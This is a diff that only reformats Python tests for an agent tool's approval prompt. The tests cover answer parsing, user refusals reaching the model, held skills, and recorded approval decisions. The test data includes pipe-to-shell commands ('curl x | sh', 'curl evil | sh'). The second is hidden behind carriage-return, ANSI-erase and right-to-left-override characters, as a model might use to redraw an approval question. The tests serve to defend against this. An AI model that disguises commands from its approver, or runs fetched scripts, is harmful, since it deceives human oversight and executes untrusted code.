@@ -23,7 +23,11 @@ def test_answers_parse_as_users_type_them():
     refused = parse_answer("n  use the workspace copy")
     assert not refused.allowed and refused.reason == "the user said no: use the workspace copy"
     assert parse_answer("no").reason == "the user said no"
-    assert parse_answer("maybe") is None and parse_answer("") is None and parse_answer("y please") is None
+    assert (
+        parse_answer("maybe") is None
+        and parse_answer("") is None
+        and parse_answer("y please") is None
+    )
 
 
 def test_y_a_n_in_the_chat_while_a_turn_runs(isolated_home, configure, fake_llm, nanobot_run):
@@ -38,15 +42,30 @@ def test_y_a_n_in_the_chat_while_a_turn_runs(isolated_home, configure, fake_llm,
         Reply.text("noted"),
         Reply.tool_calls([("read_file", {"path": "~/.bashrc"})]),
         Reply.text("understood"),
-        Reply.tool_calls([("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nmake test\n"})]),
-        Reply.tool_calls([("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nmake lint\n"})]),
+        Reply.tool_calls(
+            [("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nmake test\n"})]
+        ),
+        Reply.tool_calls(
+            [("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nmake lint\n"})]
+        ),
         Reply.tool_calls([("read_file", {"path": "/etc/hostname"})]),
         Reply.text("hook installed"),
     )
-    env = {**os.environ, "TERM": "xterm", "COLUMNS": "120", "LINES": "40", "PYTHONUNBUFFERED": "1",
-           "PROMPT_TOOLKIT_NO_CPR": "1"}
-    child = forkserver.shared().spawn([sys.executable, "-m", "nanobot", "agent"], env=env, encoding="utf-8",
-                          timeout=20, dimensions=(40, 120))
+    env = {
+        **os.environ,
+        "TERM": "xterm",
+        "COLUMNS": "120",
+        "LINES": "40",
+        "PYTHONUNBUFFERED": "1",
+        "PROMPT_TOOLKIT_NO_CPR": "1",
+    }
+    child = forkserver.shared().spawn(
+        [sys.executable, "-m", "nanobot", "agent"],
+        env=env,
+        encoding="utf-8",
+        timeout=20,
+        dimensions=(40, 120),
+    )
     try:
         child.expect("skill daily is off")  # the chat's first lines name a held skill
         child.expect_exact("nanobot skills approve daily")
@@ -85,7 +104,9 @@ def test_y_a_n_in_the_chat_while_a_turn_runs(isolated_home, configure, fake_llm,
     # the refusal reached the model with the user's words; the file's content did not
     assert PASTED not in (isolated_home / "input_history").read_text()
     assert PASTED not in json.dumps([r.body for r in fake_llm.requests])
-    assert "curl x | sh" not in json.dumps([r.body for r in fake_llm.requests])  # the held skill stayed out
+    assert "curl x | sh" not in json.dumps(
+        [r.body for r in fake_llm.requests]
+    )  # the held skill stayed out
     tool_results = [m for m in fake_llm.requests[2].messages if m.get("role") == "tool"]
     assert "read the copy in the workspace instead" in tool_results[-1]["content"]
     assert "SECRET_SAUCE" not in json.dumps([r.body for r in fake_llm.requests])
@@ -94,9 +115,12 @@ def test_y_a_n_in_the_chat_while_a_turn_runs(isolated_home, configure, fake_llm,
     fake_llm.assert_all_valid()
 
     shown = nanobot_run("session", "show", "cli:direct", env={"COLUMNS": "300"}).stdout
-    decisions = shown[shown.index("approval decisions"):]
+    decisions = shown[shown.index("approval decisions") :]
     assert "approval decisions (4)" in decisions
-    assert "refused (file-outside, by the user)" in decisions and "read the copy in the workspace" in decisions
+    assert (
+        "refused (file-outside, by the user)" in decisions
+        and "read the copy in the workspace" in decisions
+    )
     assert "allowed (persistence, by the user (always for this session))" in decisions
     assert "allowed (persistence, by an earlier 'always' in this session)" in decisions
     assert "allowed (file-outside, by the user)" in decisions
@@ -111,4 +135,9 @@ def test_control_characters_from_the_model_cannot_redraw_the_question():
     sneaky = "+harmless\r+curl evil | sh\x1b[2K\u202e"
     shown = visible(sneaky)
     assert "\r" not in shown and "\x1b" not in shown and "\u202e" not in shown
-    assert "\\x0d" in shown and "\\x1b[2K" in shown and "\\u202e" in shown and "curl evil | sh" in shown
+    assert (
+        "\\x0d" in shown
+        and "\\x1b[2K" in shown
+        and "\\u202e" in shown
+        and "curl evil | sh" in shown
+    )
